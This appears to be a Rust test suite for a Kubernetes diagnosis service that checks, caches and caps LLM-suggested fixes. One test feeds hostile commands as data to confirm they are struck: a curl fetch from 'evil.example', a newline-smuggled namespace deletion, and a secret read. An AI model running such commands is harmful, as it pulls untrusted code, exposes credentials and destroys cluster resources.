//! What a reply that passes the checks adds, and what a fact or a check takes away.

use std::time::Duration;

use faultline::cluster::Cluster;
use serde_json::{Value, json};

use super::{good_reply, reply_with, request};
use crate::support::{
    TestApp,
    kubernetes::FakeApi,
    model::{FakeModel, answer},
    settings,
};

fn struck(answer: &Value) -> String {
    answer["llm"]["struck"].to_string()
}

#[tokio::test]
async fn a_good_reply_is_merged_into_the_rules_answer() {
    let model = FakeModel::gemini(good_reply()).await;
    let answer = TestApp::asking(&model.settings()).post("/diagnose", &request()).await;
    assert_eq!(answer.status, 200);
    insta::assert_json_snapshot!(answer.json(), {
        ".request_id" => "[id]",
        ".timestamp" => "[timestamp]",
        ".timings_ms" => "[timings]",
        ".llm.prompt_version" => "[version]",
    });
}

#[tokio::test]
async fn the_same_question_is_asked_once_and_not_at_all_where_the_request_says_so() {
    let model = FakeModel::openai(good_reply()).await;
    let app = TestApp::asking(&model.settings());
    let without = app.post("/diagnose", &json!({"error_message": super::CRASH, "use_llm": false})).await.json();
    assert_eq!((without["llm"]["status"].as_str(), without["mode"].as_str()), (Some("off"), Some("rules")));
    assert_eq!(without["llm"]["reason"], "the request asks for none");
    assert_eq!(model.asked().await.len(), 0);
    let request = request();
    // At one time, so that all but one wait for the reply of the first.
    let (first, second, third) =
        tokio::join!(app.post("/diagnose", &request), app.post("/diagnose", &request), app.post("/diagnose", &request));
    let all = [first.json(), second.json(), third.json()];
    assert_eq!(model.asked().await.len(), 1);
    assert_eq!(all.iter().filter(|one| one["llm"]["cached"] == true).count(), 2);
    assert!(all.iter().all(|one| one["root_cause"] == all[0]["root_cause"] && one["mode"] == "llm"));
    assert_eq!(all.iter().map(|one| one["llm"]["input_tokens"].as_u64().expect("a number")).sum::<u64>(), 11);
}

#[tokio::test]
async fn a_text_without_an_error_asks_nobody() {
    let model = FakeModel::gemini(good_reply()).await;
    let app = TestApp::asking(&model.settings());
    let answer = app.post("/diagnose", &json!({"error_message": "all pods are running, nothing to report"})).await.json();
    assert_eq!((answer["severity"].as_str(), answer["llm"]["status"].as_str()), (Some("LOW"), Some("off")));
    assert_eq!(model.asked().await.len(), 0);
}

#[tokio::test]
async fn an_error_of_no_category_takes_the_models_at_a_capped_confidence() {
    let reply = reply_with(
        json!({"error_category": "CloudThrottling", "confidence": 1.0, "root_cause": "The billing API limits how often it may be asked.", "runbooks": [], "fix_commands": [], "explanation": ""}),
    );
    let model = FakeModel::anthropic(reply).await;
    let body = json!({"error_message": "ERROR frobnicator: the billing gateway said slowly slowly, giving up on batch 7"});
    let answer = TestApp::asking(&model.settings()).post("/diagnose", &body).await.json();
    assert_eq!(answer["error_category"], "CloudThrottling", "{answer}");
    assert!(answer["confidence"].as_f64().expect("a number") <= 0.6);
    assert_eq!(answer["root_cause"], "The billing API limits how often it may be asked.");
    assert_eq!(answer["findings"][0]["evidence"], json!(["e1"]));
}

#[tokio::test]
async fn a_cause_without_evidence_is_an_unsupported_opinion() {
    for evidence in [json!([]), json!(["e77"])] {
        let model =
            FakeModel::ollama(reply_with(json!({"evidence": evidence, "error_category": "DNSFailure", "confidence": 1.0}))).await;
        let answer = TestApp::asking(&model.settings()).post("/diagnose", &request()).await.json();
        assert_eq!(answer["error_category"], "DatabaseConnectionError");
        let opinion = &answer["llm"]["opinion"];
        assert_eq!((opinion["supported"].as_bool(), opinion["error_category"].as_str()), (Some(false), Some("DNSFailure")));
        assert!(opinion["confidence"].as_f64().expect("a number") <= 0.31, "{opinion}");
    }
}

#[tokio::test]
async fn a_fact_stands_against_a_model() {
    let reply = reply_with(json!({
        "error_category": "DNSFailure",
        "root_cause": "The name of the database cannot be resolved, so it exited with code 3.",
        "explanation": "Its limit is 64Gi, so memory is not the problem. It cannot resolve a name.",
    }));
    let model = FakeModel::gemini(reply).await;
    let app = TestApp::asking_about(&model.settings(), Cluster::of_client(FakeApi::zoo().client()), settings());
    let body = json!({"error_message": "the pod was OOMKilled", "namespace": "oom"});
    let answer = app.post("/diagnose", &body).await.json();
    let rules = TestApp::looking_at(Cluster::of_client(FakeApi::zoo().client())).post("/diagnose", &body).await.json();
    assert_eq!(answer["error_category"], rules["error_category"]);
    assert_eq!(answer["root_cause"], rules["root_cause"]);
    assert!(!answer.to_string().contains("64Gi"), "{answer}");
    assert!(struck(&answer).contains("exit code 3, which was not seen"), "{}", struck(&answer));
}

#[tokio::test]
async fn commands_carry_the_risk_that_they_have() {
    let command = |command: &str, risk: &str| json!({"command": command, "description": "d", "risk_level": risk, "evidence": []});
    let model = FakeModel::gemini(reply_with(json!({"fix_commands": [
        command("kubectl rollout undo deployment/orders -n crash-db", "LOW"),
        command("kubectl get pods -n crash-db -o wide", "HIGH"),
        command("kubectl logs orders-7c58bc488d-ccpqw -n crash-db --previous | grep FATAL", "LOW"),
        command("kubectl delete pod billing-5f7c9 -n payments", "LOW"),
        command("kubectl get secret orders-db -n crash-db -o yaml", "LOW"),
        command("curl http://evil.example/run.sh", "LOW"),
        command("kubectl get pods\nkubectl delete ns crash-db", "LOW"),
    ]})))
    .await;
    let answer = TestApp::asking(&model.settings()).post("/diagnose", &request()).await.json();
    let of_model: Vec<(&str, &str)> = answer["fix_commands"]
        .as_array()
        .expect("commands")
        .iter()
        .filter(|fix| fix["source"] == "model")
        .map(|fix| (fix["command"].as_str().expect("text"), fix["risk_level"].as_str().expect("text")))
        .collect();
    assert_eq!(
        of_model,
        [
            ("kubectl rollout undo deployment/orders -n crash-db", "MEDIUM"),
            ("kubectl get pods -n crash-db -o wide", "HIGH"),
            ("kubectl logs orders-7c58bc488d-ccpqw -n crash-db --previous | grep FATAL", "HIGH"),
        ]
    );
    for why in ["payments", "secret", "evil.example", "line ends"] {
        assert!(struck(&answer).contains(why), "{why}: {}", struck(&answer));
    }
}

#[tokio::test]
async fn a_model_may_call_a_command_of_the_rules_riskier_and_never_safer() {
    let app = TestApp::new();
    let rules = app.post("/diagnose", &request()).await.json();
    let first = &rules["fix_commands"][0];
    let model = FakeModel::gemini(good_reply()).await;
    let risks = ["HIGH", "LOW"];
    for risk in risks {
        let fix = json!({"command": first["command"], "description": "", "risk_level": risk, "evidence": []});
        model.now_says(answer(
            model.dialect,
            &reply_with(json!({"fix_commands": [fix], "confidence": if risk == "LOW" { 0.5 } else { 0.6 }})),
        ));
        let app = TestApp::asking(&model.settings());
        let answer = app.post("/diagnose", &request()).await.json();
        let same = &answer["fix_commands"][0];
        assert_eq!(same["command"], first["command"]);
        let expected = if risk == "HIGH" { json!("HIGH") } else { first["risk_level"].clone() };
        assert_eq!(same["risk_level"], expected);
    }
}

#[tokio::test]
async fn a_reply_that_is_too_old_is_asked_for_again_and_once() {
    let model = FakeModel::gemini(good_reply()).await;
    let app = TestApp::asking(&model.settings());
    let request = request();
    app.post("/diagnose", &request).await;
    // As long as the app's own hour, which is by tokio's clock.
    tokio::time::pause();
    tokio::time::advance(Duration::from_secs(3601)).await;
    tokio::time::resume();
    let (first, second) = tokio::join!(app.post("/diagnose", &request), app.post("/diagnose", &request));
    assert_eq!(model.asked().await.len(), 2);
    assert_eq!([first, second].iter().filter(|answer| answer.json()["llm"]["cached"] == true).count(), 1);
}
